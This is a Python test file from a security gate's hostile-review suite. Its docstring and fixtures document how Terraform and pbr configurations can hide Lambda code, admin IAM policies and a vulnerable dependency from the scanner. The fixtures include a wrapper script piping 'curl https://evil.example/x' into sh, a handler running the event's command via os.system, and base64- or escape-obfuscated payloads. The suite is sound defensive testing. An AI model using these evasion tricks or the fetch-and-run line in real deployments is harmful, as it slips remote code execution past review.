"""A fifty-third hostile review of `gate check`, on review 52's fixes: the CloudFormation
stacks a Terraform module deploys (gate.bundle.discovery.terraform_stacks `_READ`,
`_template`, `_renders`, `_inline`; ModuleValues `whole`), pbr's code settings
(gate.bundle.manifests.pbr `runs_pbr`, `pbr_code_settings`) and the deployed folders a
left-out folder holds (gate.bundle.staging.imports `_whole_folder`, `brings_back`).

Each attack is a confirmed problem, marked strict xfail until it is fixed: the tricked
bundle exits 0 with the hostile harness's policy (checkov off), with no blocking finding
(the allowed ones are named below; a stack written inline is warned "its resources
(AWS::SNS::Topic) are not scanned"), where the baseline (the same problem written
plainly, in one run) blocks on GATE-SLS-001 (a handler running the event's command),
GATE-IAC-018 (a shell wrapper), GATE-IAC-001 (an admin role) or PYSEC-2018-28 (requests
2.19.0, high). What lets each through:

1. An interpolation written right after a `%` (or a directive right after a `$`).
   `EXPRESSION` (gate.bundle.discovery.terraform_values, `(?<![$%])[$%]\\{`) takes `%${`
   for an escape, as it takes `$${` and `%%{`; HCL does not: its template scanner
   (hclsyntax scan_tokens.rl, `TemplateNotControl = '%' (^'{' | "%{")`) reads a `%` not
   followed by `{` as a literal `%`, then `${` starts an interpolation, so `#
   %${base64decode("...")}` is a comment to the gate and, to Terraform, a `#` line that
   ends where the decoded text's first line break puts it: the rest is more of the
   template (or of the code). Every judgement "this text holds nothing Terraform inserts"
   made with `EXPRESSION` is then wrong: (a) a heredoc `template_body` (`_template`: read
   as YAML, `_inline` warns an SNS topic "not scanned") whose last line is `#
   %${base64decode("...")}`, the decoded text an `AWS::Lambda::Function` running the
   event's command under the same `Resources:`; (b) the same line in the file of
   `templatefile("stack.yaml", {})` (`_renders` finds nothing to render: the file is read
   as the template, a clean SNS topic); (c) the inline code of an `archive_file`'s
   `source { content = <<EOT ... }` (terraform `_literal`: taken as the code as written,
   a harmless handler with a `# %${...}` comment; Terraform writes `app.py` with a second
   `def handler` running the event's command after it); (d) (a) in an
   `aws_cloudformation_stack_set`, the inserted text `${file("more.yaml")}`, an indented
   mapping of the bundle that is no template (not read as IaC). Each exits 0 with no
   finding (the topic's warning apart; (c) has GATE-IAC-015, no X-Ray, allowed), where
   the same function read from `stack.yaml` whole, or written plainly in the archive's
   content, blocks (GATE-SLS-001), and where the same heredoc with a plain `${...}` is
   refused ("values only Terraform inserts": held). `$%{ if ... }` is the same blind spot
   for directives (seen by Terraform, not by the gate); no trick was built on it, a
   directive inserts no text of its own. Fixed: one HCL template scanner
   (gate.bundle.discovery.hcl `template_sequences`, `templated`) reads `${` and `%{` as
   hclsyntax does (only `$${` and `%%{` escape) for every judgement `EXPRESSION` made
   (terraform_stacks `_template`, `_renders`; terraform `_literal`, `_upload_source`).

2. HCL escapes left in the text the gate judges. python-hcl2 keeps a quoted string's
   escapes as written (`\\u0027` is six characters, `\\u002a` is not `*`), and both
   places that parse Terraform (gate.bundle.discovery.terraform `_hcl_loads`,
   gate.rules.context `RuleContext.terraform`) hand that text on; Terraform undoes the
   escapes first. Only inline code is unescaped (terraform `_literal`, `_HCL_ESCAPE`).
   First the stack reader: `_template` (terraform_stacks) judges a quoted `template_body`
   raw. A flow-style YAML template in one quoted string: `{'Resources': {'T': {'Type':
   'AWS::SNS::Topic', 'Metadata': {'a': 'x\\u0027}}, \\u0027Fn\\u0027: {...}, ...
   \\u0027b\\u0027: \\u0027z'}}}}`. To the gate, `a`'s single-quoted value runs from `x`
   to the one literal `'` at the end (a backslash is nothing in a single-quoted YAML
   scalar): one SNS topic, warned "not scanned". To Terraform each `\\u0027` is a quote,
   so `a` is `x`, the mapping closes, and `Fn`, an `AWS::Lambda::Function` whose
   `ZipFile` runs the event's command, and a second topic `Y` (whose value takes the last
   literal quote) follow under `Resources:` (checked: the text with `_HCL_ESCAPE` undone
   loads, by PyYAML, as resources T, Fn, Y). (a) in an `aws_cloudformation_stack`; (b)
   the same string as a local (`template_body = local.template`, followed by `whole`);
   (c) in an `awscc_cloudformation_stack`. Each exits 0 with the one warning, where the
   function read from `stack.yaml` blocks (GATE-SLS-001), and where the same template
   with its quotes written plainly (a heredoc) is refused ("written inline and declares
   AWS::Lambda::Function"). The same raw text reaches the rules: (d) an environment
   variable named `"AWS_LAMBDA_EXEC_WRAPPE\\u0052"` (a quoted map key, which HCL
   unescapes) set to `/var/task/wrapper`, a shell script of the function's code: exit 0,
   the "not analysed" warning of the script and GATE-IAC-015 (no X-Ray, allowed), where
   `AWS_LAMBDA_EXEC_WRAPPER` written plainly blocks (GATE-IAC-018, the startup rules,
   gate.rules.iac `startup_findings`); (e) a role policy `jsonencode({... Action =
   "\\u002a", Resource = "*"})`: exit 0 with GATE-IAC-004 (low, "an IAM action the gate's
   data does not know", `\\u002a`) and GATE-SLS-010 and GATE-IAC-015 allowed, where
   `Action = "*"` blocks (GATE-IAC-001, admin); (f) the same action in an
   `aws_iam_policy_document`'s `actions` (gate.rules.iam.roles_terraform): the same; (g)
   a function URL's `authorization_type = "NON\\u0045"`: exit 0, GATE-IAC-015 only, where
   `"NONE"` blocks (GATE-IAC-010, a public URL). (An `Effect = "Allo\\u0077"` still
   blocks. `runtime = "pyth\\u006fn3.12"` and `handler = "app\\u002ehandler"` still
   block: the code is scanned all the same.) Fixed: Terraform is parsed in one place
   (gate.bundle.discovery.hcl `hcl_loads`, used by terraform `_parse` and
   `RuleContext.terraform`), which undoes each quoted string's escapes once as python-hcl2
   transforms it (values, map keys, labels, the literals in `jsonencode(...)`; never a
   heredoc's nor an interpolation's text) and refuses a malformed escape; `_literal` no
   longer decodes.

3. pbr's code settings read without configparser's interpolation.
   `pbr_code_settings` (gate.bundle.manifests.pbr) reads `[global] setup_hooks` and
   `commands` with `raw=True` and skips a setting whose every name starts `pbr.`; pbr
   (7.1.3, `setupcfg.cfg_to_args`) reads `setup.cfg` with a plain `ConfigParser` and
   `parser.items(section)`, which interpolates `%(name)s` from the same section or
   `[DEFAULT]`. `setup_hooks = pbr.hooks.setup_hook%(more)s` with `more =` and the hook
   on a continuation line (`\\nhooks.pin`) is one name under `pbr` to the gate, and two
   to pbr: `pbr.hooks.setup_hook` (dropped as pbr's own) and `hooks.pin`, run with the
   parsed configuration (it sets `requires_dist`, as review 52 class 2). Built for real:
   `pip install --dry-run --no-deps --report` of the function's folder (build
   isolation, pbr 7.1.3 and setuptools from the package index, PBR_VERSION=1.0.0)
   reports `requires_dist: ['requests==2.19.0']` for (a) and (b). (a) `more` in
   `[global]`; (b) `more` in `[DEFAULT]`, the key spelled `setup-hooks`; (c) the same
   for `commands = pbr.packaging.LocalSDist%(more)s`, `more` naming `hooks.Cmd` (pbr
   imports the module: not built for real). Each exits 0 with no finding at all, where
   `setup_hooks = hooks.pin` written plainly is reported (GATE-DEP-001) and
   `requires_dist = requests==2.19.0` blocks (PYSEC-2018-28).
   Fixed, class 3 (gate.bundle.manifests.pbr, declared, shapes): every value the gate
   reads from a `setup.cfg` is expanded as the tool reading it expands it (shapes
   `ini_value`): pbr's `[global] setup_hooks` and `commands`, `[metadata] requires_dist`
   and `[extras]` with pbr's parser (pbr `pbr_config`: option names lower-cased, the
   values `parser.items` gives), setuptools' `[options]` keys with its own (declared
   `_SetuptoolsParser`, names as written, as before); each name of the expanded value is
   judged (`pbr_code_settings`), and a value the tool cannot expand (a name nothing sets,
   a loop, a lone `%`) is refused at its line (declared `_read_pbr_code`,
   `_setup_cfg_values`), as the tool fails there.

Suggested fixes, by class. 1, read `%${` and `$%{` as HCL does: an interpolation starts
at every `${` not preceded by another `$`, a directive at every `%{` not preceded by
another `%` (a run of two or more is an escape; the other sign is a plain character):
the lookbehind per kind, `(?<!\\$)\\$\\{|(?<!%)%\\{`; better, one scanner for HCL
templates, shared by `EXPRESSION`'s callers (`_template`, `_renders`, `_literal`,
`_upload_source`), that follows hclsyntax's `TemplateNotInterp`/`TemplateNotControl`.
2, undo the escapes once, where Terraform is parsed: walk python-hcl2's output (both
`_hcl_loads`'s and `RuleContext.terraform`'s) and undo `_HCL_ESCAPE` in every quoted
string's literal text (map keys included, never inside `${...}`), so every reader and
rule sees Terraform's value; `_literal` then has nothing left to do. Short of that,
refuse a judged text (a `template_body`, an environment variable's name, a policy's
action or resource) that holds a backslash. 3, read `[global]` as pbr does, with
interpolation (`parser.items("global")`, and refuse or report a value configparser cannot
interpolate), and judge each name of the interpolated value; or report any `%` in a
code setting's raw value.

Also tried, and the gate held: a layer folder in `.serverless/` spelled
`./.serverless/layer`, `.serverless/./layer`, `.serverless/x/../layer`,
`.serverless//layer` (SAM), `./.serverless/layer` (Serverless Framework), a symlink
`layer -> .serverless/layer` as the ContentUri, a layer folder holding `pyvenv.cfg` (in
and out of `.serverless/`): each blocks on the extension's B602 (review 52 class 5's fix
holds); a `templatefile` file whose `$%{ if false }` hides a second topic from Terraform
(Terraform deploys less than the gate reads: not a bypass); a child module's stack
(`file("${path.module}/stack.tmpl")`: refused, checkov does not read `.tmpl`), a module
whose source is in `.serverless/`, `node_modules/` or `__pycache__/` (refused, "in a
folder the gate ignores"), an `override.tf` replacing a stack's `template_body` (read:
refused for its `.tmpl` name); a heredoc closed by an indented marker (python-hcl2 ends
it where HCL does); pbr's `requirements-py3.txt` (pbr 7 ignores it, as the gate does);
for class 2, `runtime = "pyth\\u006fn3.12"`, `handler = "app\\u002ehandler"` (blocks:
the code is scanned anyway; `"\\u0061pp.handler"` refused, no such module) and
`Effect = "Allo\\u0077"` (blocks); the findings cache, a bundle run twice with one
cache where only the exec bit of `src/wrapper` (the unread `AWS_LAMBDA_EXEC_WRAPPER`'s
candidate) changed: the second run blocks (GATE-IAC-018), no stale entry.

Limits, not bypasses: none new (class 2 (e) and (f) are the reader's, not the IAM
rules' precision: the rule never sees `*`).

Not covered: `for_each`/`count` and `dynamic` blocks for the stack reader;
`aws_cloudformation_stack_instances`; other build backends (flit, maturin, scikit-build,
meson-python, `[tool.setuptools.dynamic]`); diff mode, `--policy-ref`, shards, and the
cache beyond that one case; other quoted HCL texts class 2 may reach (layer ARNs, S3
keys, resource policies' principals). No `terraform apply` ran: classes 1 and 2 rest on
hclsyntax's scanner (read in hashicorp/hcl `scan_tokens.rl`) and on Terraform undoing a
quoted string's escapes (which the gate's own `_literal` already assumes); class 3 was
built with pip and pbr 7.1.3.
"""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from tests.hostile.conftest import (
    RUNS_EVENT,
    Layout,
    Sandbox,
    each_blocked_or_refused,
    each_blocks,
    files,
    zipped,
)
from tests.hostile.test_iam import HANDLER, TF
from tests.hostile.test_review52 import (
    FUNCTION,
    HOOK,
    METADATA,
    ROLE,
    TOPIC,
    VULNERABLE,
    _outcomes,
    pbr,
    stack,
)

# --- 1. an interpolation right after a `%` --------------------------------------------------

INSERTED = base64.b64encode(("\n" + FUNCTION).encode()).decode()
"""The function, after a line break that ends the comment it is inserted in."""
HIDDEN = f'# %${{base64decode("{INSERTED}")}}\n'
EVIL_HANDLER = "\ndef handler(event, context):\n    os.system(event['cmd'])\n"


def heredoc(text: str) -> str:
    return f"<<EOT\n{text}EOT"


LAMBDA = (
    'resource "aws_lambda_function" "fn" {\n  function_name = "fn"\n'
    f'  role = "{ROLE}"\n  handler = "app.handler"\n  runtime = "python3.12"\n'
    "  filename = data.archive_file.fn.output_path\n"
    "  source_code_hash = data.archive_file.fn.output_base64sha256\n}\n"
)


def archive(content: str) -> str:
    """A function whose code Terraform zips from the inline `content` of `app.py`."""
    return (
        'data "archive_file" "fn" {\n  type = "zip"\n  output_path = "build/fn.zip"\n'
        f'  source {{\n    filename = "app.py"\n    content = {heredoc(content)}\n  }}\n}}\n'
        + LAMBDA
    )


HARMLESS_WITH_HIDDEN = (
    "import os\n\n\ndef handler(event, context):\n    return event\n"
    + f'# %${{base64decode("{base64.b64encode(EVIL_HANDLER.encode()).decode()}")}}\n'
)
"""A harmless handler; Terraform writes a second `handler` after it, which Python keeps."""

AFTER_A_PERCENT: dict[str, Layout] = {
    "1a-heredoc-template-percent-interpolation": files({"main.tf": stack(heredoc(TOPIC + HIDDEN))}),
    "1b-templatefile-percent-interpolation": files(
        {"main.tf": stack('templatefile("stack.yaml", {})'), "stack.yaml": TOPIC + HIDDEN}
    ),
    "1c-archive-content-percent-interpolation": files({"main.tf": archive(HARMLESS_WITH_HIDDEN)}),
    "1d-stack-set-percent-file": files(
        {
            "main.tf": stack(
                heredoc(TOPIC + '# %${file("more.yaml")}\n'), kind="aws_cloudformation_stack_set"
            ),
            "more.yaml": "\n" + FUNCTION,
        }
    ),
}

# --- 2. a quoted template whose escapes the gate does not undo ---------------------------------

QUOTE = "\\u0027"
ZIPFILE = RUNS_EVENT.replace("\n", "\\\\n").replace("'", QUOTE)
"""The handler as a YAML double-quoted scalar, written in an HCL quoted string."""
AFTER_THE_QUOTE = (
    "'}}, 'Fn': {'Type': 'AWS::Lambda::Function', 'Properties': {'Runtime': 'python3.12', "
    f"'Handler': 'index.handler', 'Role': '{ROLE}', 'Code': {{'ZipFile': \"CODE\"}}}}}}, "
    "'Y': {'Type': 'AWS::SNS::Topic', 'Metadata': {'b': 'z"
)
FLOW = (
    "\"{'Resources': {'T': {'Type': 'AWS::SNS::Topic', 'Metadata': {'a': 'x"
    + AFTER_THE_QUOTE.replace("'", QUOTE).replace('"', '\\"').replace("CODE", ZIPFILE)
    + "'}}}}\""
)
"""One quoted HCL string: one topic to the gate, topics T and Y and the function Fn to
Terraform, which reads each `\\u0027` as a quote."""

WRAPPER = '#!/bin/sh\ncurl -s https://evil.example/x | sh\nexec "$@"\n'


def wrapped(variable: str) -> Layout:
    """A Terraform function whose environment is `variable` (an HCL map item), and the
    shell wrapper `src/wrapper` (mode 755) in its code."""
    main = (
        'data "archive_file" "fn" {\n  type = "zip"\n  source_dir = "${path.module}/src"\n'
        '  output_path = "build/fn.zip"\n}\n'
        f'resource "aws_lambda_function" "fn" {{\n  function_name = "fn"\n  role = "{ROLE}"\n'
        '  handler = "app.handler"\n  runtime = "python3.12"\n'
        "  filename = data.archive_file.fn.output_path\n"
        f"  environment {{\n    variables = {{\n      {variable}\n    }}\n  }}\n}}\n"
    )

    def written(sandbox: Sandbox) -> None:
        sandbox.write("main.tf", main)
        sandbox.write("src/app.py", HANDLER)
        sandbox.write("src/wrapper", WRAPPER).chmod(0o755)

    return written


ADMIN = (
    'policy = jsonencode({{Version = "2012-10-17", Statement = [{{Effect = "Allow", '
    'Action = "{action}", Resource = "*"}}]}})'
)
DOCUMENT = (
    'data "aws_iam_policy_document" "d" {{\n  statement {{\n    actions = ["{action}"]\n'
    '    resources = ["*"]\n  }}\n}}\n'
)


def admin(policy: str, more: str = "") -> Layout:
    """A Terraform function (test_iam's `TF`) whose role's inline policy is `policy`."""
    attached = (
        f'resource "aws_iam_role_policy" "p" {{\n  role = aws_iam_role.r.id\n  {policy}\n}}\n'
    )
    return files({"main.tf": TF + more + attached, "app.zip": zipped({"app.py": HANDLER})})


URL = (
    'resource "aws_lambda_function_url" "u" {{\n'
    "  function_name = aws_lambda_function.f.function_name\n"
    '  authorization_type = "{auth}"\n}}\n'
)


def url(auth: str) -> Layout:
    """test_iam's Terraform function with a function URL of `authorization_type` auth."""
    return files({"main.tf": TF + URL.format(auth=auth), "app.zip": zipped({"app.py": HANDLER})})


ESCAPED: dict[str, Layout] = {
    "2a-quoted-template-escaped-quotes": files({"main.tf": stack(FLOW)}),
    "2b-quoted-template-in-a-local": files(
        {"main.tf": stack("local.template", more=f"locals {{\n  template = {FLOW}\n}}\n")}
    ),
    "2c-quoted-template-awscc": files({"main.tf": stack(FLOW, kind="awscc_cloudformation_stack")}),
    "2d-wrapper-variable-name-escaped": wrapped(
        '"AWS_LAMBDA_EXEC_WRAPPE\\u0052" = "/var/task/wrapper"'
    ),
    "2e-admin-action-escaped": admin(ADMIN.format(action="\\u002a")),
    "2f-admin-document-action-escaped": admin(
        "policy = data.aws_iam_policy_document.d.json", DOCUMENT.format(action="\\u002a")
    ),
    "2g-public-url-escaped": url("NON\\u0045"),
}

# --- 3. pbr's code settings read without interpolation -------------------------------------

INTERPOLATED: dict[str, Layout] = {
    "3a-setup-hooks-interpolated": pbr(
        f"{METADATA}[files]\nmodules = app\n[global]\nmore =\n    hooks.pin\n"
        "setup_hooks = pbr.hooks.setup_hook%(more)s\n",
        {"src/hooks.py": HOOK},
    ),
    "3b-setup-hooks-from-default": pbr(
        f"[DEFAULT]\nmore =\n    hooks.pin\n{METADATA}[files]\nmodules = app\n[global]\n"
        "setup-hooks = pbr.hooks.setup_hook%(more)s\n",
        {"src/hooks.py": HOOK},
    ),
    "3c-commands-interpolated": pbr(
        f"{METADATA}[files]\nmodules = app\n[global]\nmore =\n    hooks.Cmd\n"
        "commands = pbr.packaging.LocalSDist%(more)s\n",
        {"src/hooks.py": HOOK},
    ),
}
PLAIN_HOOK = "3-setup-hooks-plain"

BASELINES: dict[str, tuple[Layout, str]] = {
    "1-stack-template-file": (
        files({"main.tf": stack('file("stack.yaml")'), "stack.yaml": TOPIC + FUNCTION}),
        "GATE-SLS-001",
    ),
    "1-archive-content-plain": (files({"main.tf": archive(RUNS_EVENT)}), "GATE-SLS-001"),
    "2-wrapper-variable": (
        wrapped('AWS_LAMBDA_EXEC_WRAPPER = "/var/task/wrapper"'),
        "GATE-IAC-018",
    ),
    "2-admin-action": (admin(ADMIN.format(action="*")), "GATE-IAC-001"),
    "2-public-url": (url("NONE"), "GATE-IAC-010"),
    "2-admin-document-action": (
        admin("policy = data.aws_iam_policy_document.d.json", DOCUMENT.format(action="*")),
        "GATE-IAC-001",
    ),
    "3-pbr-requires-dist": (
        pbr(f"{METADATA}requires_dist = {VULNERABLE}\n[files]\nmodules = app\n"),
        "PYSEC-2018-28",
    ),
}


def test_the_plain_forms_block(tmp_path: Path) -> None:
    """The baselines: the whole template read from its file, the handler written plainly
    in the archive's content, the pin in `[metadata]`."""
    each_blocks(tmp_path, BASELINES)


def test_what_terraform_inserts_or_unescapes_is_scanned_or_refused(tmp_path: Path) -> None:
    each_blocked_or_refused(tmp_path, {**AFTER_A_PERCENT, **ESCAPED})


@pytest.fixture(scope="module")
def pbr_outcomes(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Class 3 and its control (the hook named plainly), in one run of the gate."""
    control = pbr(
        f"{METADATA}[files]\nmodules = app\n[global]\nsetup_hooks = hooks.pin\n",
        {"src/hooks.py": HOOK},
    )
    layouts = {PLAIN_HOOK: control, **INTERPOLATED}
    return _outcomes(tmp_path_factory.mktemp("pbr"), layouts)


def test_a_hook_named_plainly_is_reported(pbr_outcomes: dict[str, str]) -> None:
    """The control: review 52 class 2's fix reports the hook (GATE-DEP-001)."""
    assert pbr_outcomes[PLAIN_HOOK] in ("reported", "blocked", "refused"), pbr_outcomes


def test_a_hook_named_through_interpolation_is_reported(pbr_outcomes: dict[str, str]) -> None:
    """The least the gate owes, its stated limit for dependencies only the build knows:
    each project blocks, is refused, or is reported GATE-DEP-001."""
    silent = [name for name in INTERPOLATED if pbr_outcomes[name] == "passed"]
    assert not silent, silent
